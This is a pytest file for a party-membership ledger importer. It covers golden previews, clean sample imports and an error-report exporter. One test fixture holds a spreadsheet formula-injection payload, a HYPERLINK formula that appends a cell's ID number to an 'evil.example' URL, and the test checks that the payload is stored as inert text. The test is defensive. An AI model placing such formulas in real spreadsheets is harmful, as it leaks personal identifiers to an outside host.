"""The shipped samples: a golden preview of messy.xlsx, every sample imports, the error report."""

from __future__ import annotations

import json
import os
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from partyledger.exporters.error_report import REASON, write_error_report
from partyledger.files import file_sha256
from partyledger.importers import read_members
from partyledger.ledger.intake import batches
from partyledger.ledger.storage.db import memory_engine, session_scope
from partyledger.ledger.intake.quarantine import list_quarantine
from partyledger.rules import load_rules

SAMPLES = Path(__file__).resolve().parents[2] / "samples"
GOLDEN = Path(__file__).parent / "golden" / "messy_preview.json"
AS_OF = date(2026, 11, 1)
UNITS = load_rules("KZ").units


def preview(session, path: Path, dry_run: bool = True):
    data, mapped = read_members(path)
    src = batches.BatchSource(path.name, file_sha256(path), data.name, mapped.header.mapping)
    res = batches.import_rows(session, mapped.rows, src, units=UNITS, as_of=AS_OF, dry_run=dry_run)
    return res, mapped


def test_messy_preview_matches_the_golden_file():
    engine = memory_engine()
    with session_scope(engine) as s:
        res, mapped = preview(s, SAMPLES / "messy.xlsx")
    got = {"summary": res.summary(), "header_row": mapped.header.row, "mapping": mapped.header.mapping,
           "skipped": [[k.row, k.text] for k in mapped.skipped], "quarantine": res.quarantine}
    if os.environ.get("UPDATE_GOLDEN"):
        GOLDEN.write_text(json.dumps(got, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")
    assert got == json.loads(GOLDEN.read_text(encoding="utf-8"))


@pytest.mark.parametrize("name, created", [("clean.xlsx", 60), ("kazakh_headers.xlsx", 45), ("cp1251.csv", 35),
                                           ("semicolon.csv", 35)])
def test_every_clean_sample_imports_without_loss(name, created):
    engine = memory_engine()
    with session_scope(engine) as s:
        res, _m = preview(s, SAMPLES / name, dry_run=False)
    assert (res.rows, res.created, res.quarantined) == (created, created, 0)


def test_error_report_keeps_the_original_columns_and_never_writes_a_formula(tmp_path):
    rows = [{"raw": {"ФИО": "=HYPERLINK(\"http://evil.example/?\"&C2,\"click\")", "ИИН": 50101300120,
                     "Телефон": "+7 701 123 45 67"}, "row": 7, "codes": ["iin.checksum"], "file_name": "a.xlsx"},
            {"raw": {"ФИО": "Без Иина", "Область": "Астана"}, "row": 9, "codes": ["iin.missing"], "file_name": "a.xlsx"}]
    out = tmp_path / "report.xlsx"
    assert write_error_report(out, rows) == 2
    ws = load_workbook(out).active
    values = [[c.value for c in r] for r in ws.iter_rows()]
    assert values[0][:4] == ["ФИО", "ИИН", "Телефон", "Область"] and values[0][-1] == REASON
    assert values[1][0].startswith("=HYPERLINK") and ws["A2"].data_type == "s"     # text, not a formula
    assert values[1][1] == "50101300120" and ws["B2"].data_type == "s"             # digits kept as text
    assert "iin.checksum" in values[1][-1] and "check digit" in values[1][-1]
    assert values[2][0] == "Без Иина" and values[2][3] == "Астана" and values[2][-2] == "9"
    from zipfile import ZipFile
    with ZipFile(out) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()


def test_error_report_from_a_real_import(tmp_path):
    engine = memory_engine()
    with session_scope(engine) as s:
        preview(s, SAMPLES / "messy.xlsx", dry_run=False)
        rows = list_quarantine(s)
    out = tmp_path / "fix_me.xlsx"
    write_error_report(out, rows)
    ws = load_workbook(out).active
    assert ws.max_row == 1 + len(rows) == 7
    assert [c.value for c in ws[1]][:3] == ["№ п/п", "Ф.И.О.", "Дата рожд."]
